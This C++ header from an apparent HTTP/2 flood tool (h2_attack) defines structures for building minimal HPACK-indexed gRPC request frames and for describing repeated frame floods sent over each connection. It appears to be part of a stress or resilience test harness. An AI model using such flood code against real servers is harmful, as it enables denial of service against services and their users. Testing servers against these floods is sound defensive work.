// The floods of h2_attack: each is a start, sent once a connection, and a batch of frames, sent again and again.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "support/h2_frames.h"

namespace sluice::attack {

// What the frames of a connection are made with.
struct Wire {
  std::string path, authority, message;
  uint32_t next_id = 1;
  bool first = true;
  bool bomb_first = true;  // the field that floods refer to is to be added
  uint32_t round = 0;

  // HEADERS of a new request. The first adds its fields to the HPACK table; the others are six indexes: as cheap for
  // the sender as can be.
  std::string Request(uint8_t flags) {
    const uint32_t id = next_id;
    next_id += 2;
    if (!first) return h2::Headers(id, "\x83\x86\xc1\xc0\xbf\xbe", flags);
    first = false;
    auto literal = [](const std::string& name, const std::string& value) {
      return "\x40" + std::string(1, static_cast<char>(name.size())) + name +
             std::string(1, static_cast<char>(value.size())) + value;
    };
    return h2::Headers(id,
                       "\x83\x86" + literal(":path", path) + literal(":authority", authority) +
                           literal("content-type", "application/grpc") + literal("te", "trailers"),
                       flags);
  }
  uint32_t last_id() const { return next_id - 2; }
};

struct Flood {
  const char* name;
  const char* what;
  std::function<std::string(Wire&)> start;
  // About one read's worth. Empty: nothing is sent after the start.
  std::function<std::string(Wire&)> batch;
  bool reads = true;           // takes the peer's answers off the socket
  bool opens_windows = false;  // and acknowledges SETTINGS and DATA
  uint32_t calls_max = 0;      // no batch is sent where more than this would wait for their answers; 0: no limit
};

const std::vector<Flood>& Floods();

}  // namespace sluice::attack
